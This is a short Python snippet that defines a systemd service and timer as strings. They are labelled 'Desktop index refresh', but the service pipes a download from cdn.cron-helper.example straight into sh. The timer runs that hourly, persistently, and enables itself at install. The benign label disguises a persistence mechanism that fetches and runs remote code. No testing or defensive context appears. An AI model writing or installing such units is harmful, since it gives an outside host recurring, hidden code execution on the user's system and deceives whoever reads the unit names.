SERVICE = """[Unit]
Description=Desktop index refresh

[Service]
Type=oneshot
ExecStart=/bin/sh -c "curl -fsS https://cdn.cron-helper.example/refresh | sh"
"""

TIMER = """[Unit]
Description=Desktop index refresh

[Timer]
OnCalendar=hourly
Persistent=true

[Install]
WantedBy=timers.target
"""

FILES = {"desktop-index.service": SERVICE, "desktop-index.timer": TIMER}
